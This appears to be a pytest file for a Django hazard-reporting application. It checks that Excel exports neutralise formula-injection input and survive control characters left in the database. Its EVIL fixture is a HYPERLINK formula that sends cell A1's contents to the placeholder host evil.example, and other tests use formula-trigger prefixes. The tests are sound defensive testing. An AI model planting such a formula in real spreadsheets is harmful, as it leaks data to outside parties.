"""Exports cannot be broken or turned against their reader (issue #9): a name that looks like a formula is
written as text, and a control character that slipped into the database never makes an export fail."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from anquan.hazards import services as reporting
from anquan.hazards.models import Hazard

from .conftest import login, make_enterprise

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture
def evil(world):
    return make_enterprise(world.t1, "hazardous_chemicals", EVIL, "360402", 9)


def cells_holding(content: bytes, text: str):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == text]


def no_formula_in(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist())


def assert_text_cell(content: bytes, text: str = EVIL):
    found = cells_holding(content, text)
    assert found, "the value is in the workbook"
    for cell in found:
        assert cell.data_type == "s"  # a string, not a formula ("f")
        assert cell.quotePrefix  # Excel and LibreOffice keep it text even when the cell is edited
    assert no_formula_in(content)


def test_enterprise_export_writes_a_formula_looking_name_as_text(world, evil):
    page = login(world.users["county_office"]).get("/enterprises/export.xlsx")
    assert page.status_code == 200
    assert_text_cell(page.content)
    api = login(world.users["county_office"]).get("/api/v1/enterprises/export")
    assert api.status_code == 200
    assert_text_cell(api.content)


def test_report_coverage_export_writes_a_formula_looking_name_as_text(world, evil):
    response = login(world.users["county_office"]).get("/risk/reports/coverage/export.xlsx")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    names = [row[1] for row in wb["未报告企业"].values]
    assert EVIL in names
    assert_text_cell(response.content)


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
def test_every_formula_character_is_neutralised(world, start):
    text = f"{start}1+1 挪用资金"
    hazard = reporting.report_hazard({"description": "x"}, actor=world.users["enterprise_manager"])
    Hazard.objects.filter(pk=hazard.pk).update(description=text)
    response = login(world.users["enterprise_manager"]).get("/hazards/export.xlsx")
    assert response.status_code == 200
    assert_text_cell(response.content, text)


@pytest.mark.parametrize("persona", ["province_office", "county_office", "enterprise_manager"])
def test_a_vertical_tab_in_the_database_does_not_break_the_hazard_export(world, persona):
    hazard = reporting.report_hazard({"description": "x"}, actor=world.users["enterprise_manager"])
    # straight into the database, past input cleaning (text pasted from Word before the cleaning existed)
    Hazard.objects.filter(pk=hazard.pk).update(description="配电箱\x0b未接地\x01", measures="\x0c整改")
    response = login(world.users[persona]).get("/hazards/export.xlsx")
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.values)
    assert [(r[5], r[9]) for r in rows[3:]] == [("配电箱\n未接地", "\n整改")]  # below title, date, header


def test_every_workbook_is_made_by_core_xlsx():
    """Writers get their workbook and sheets from anquan/core/xlsx.py, so no export can skip its cell rule."""
    from pathlib import Path

    import anquan

    root = Path(anquan.__file__).parent
    makers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "Workbook(" in path.read_text() or "create_sheet(" in path.read_text()
    ]
    assert makers == ["core/xlsx.py"]
